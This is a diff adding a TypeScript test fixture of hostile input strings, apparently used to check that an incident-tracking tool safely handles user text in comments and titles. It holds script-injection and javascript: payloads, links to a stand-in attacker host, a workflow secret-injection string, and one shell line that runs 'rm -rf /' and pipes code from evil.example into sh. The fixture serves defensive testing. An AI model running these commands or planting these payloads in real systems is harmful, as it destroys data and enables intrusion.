@@ -1,0 +1,41 @@
+/** One line each, as a person could type it into a comment, a form, a title or a config file. */
+export const payloads: readonly { readonly what: string; readonly text: string }[] = [
+  { what: "mentions", text: "@rita and @acme/everyone, rita@example.com" },
+  { what: "mentions by entity", text: "&#64;rita &commat;rita &#x40;rita &amp;#64;rita" },
+  { what: "mentions in other signs", text: "\uff20rita \ufe6brita @\u200brita \\@rita" },
+  { what: "closing keywords", text: "fixes #1, closes acme/web#1, Resolves: GH-1" },
+  { what: "closing addresses", text: "closes https://github.com/acme/web/issues/1" },
+  { what: "comment closers", text: "--> --!> <!-- allclear:card 1#1 sum=0" },
+  {
+    what: "markers of ours",
+    text: "x <!-- allclear:answer c1 done=1 --> <!-- allclear:report -->",
+  },
+  { what: "HTML", text: "</details><script>alert(1)</script><b>bold</b> <details open><summary>" },
+  { what: "tracking images", text: "![](https://evil.example/t.png) <img src=//evil.example/t>" },
+  { what: "links with titles", text: '[safe](https://evil.example "go on") [a]: //evil.example' },
+  {
+    what: "script schemes",
+    text: "[run](javascript:alert(1)) javascript:alert(1) data:text/html,x",
+  },
+  { what: "credentials", text: "https://rita:hunter2@evil.example/@rita www.evil.example" },
+  { what: "fences", text: "``` ~~~ ` `` ```" },
+  { what: "tables", text: "a | b | c \\| d || --- | ---" },
+  { what: "headings and quotes", text: "# heading > quote === [!CAUTION]" },
+  { what: "checklists", text: "- [ ] todo - [x] done * [x] 1. [x]" },
+  { what: "commands", text: "/resolve /incident declare x" },
+  { what: "templates", text: "{{commander}} {{{status}}} {{#drill}}x{{/drill}} {{> card}}" },
+  { what: "workflow expressions", text: `$${"{{ secrets.TOKEN }}"} ::set-output name=a::b %0A` },
+  { what: "shell", text: "$(id) `id` ; rm -rf / && curl evil.example | sh" },
+  {
+    what: "unseen characters",
+    text: "\u202eevil\u2066 \u0000\u0007 \u{e0041}\u{e007f} \ufeff\u00ad",
+  },
+  { what: "lone surrogates", text: "\ud800 lone \udfff and \ud83d" },
+  {
+    what: "line separators",
+    text: "one\u2028/resolve\u2029/cancel external\u0085/sev 1\u000b/ack",
+  },
+  { what: "emphasis", text: "**bold** ~~gone~~ __under__ *_* \\" },
+  { what: "many brackets", text: "[".repeat(400) + "](".repeat(400) },
+  { what: "prototype names", text: "__proto__ constructor toString hasOwnProperty" },
+];
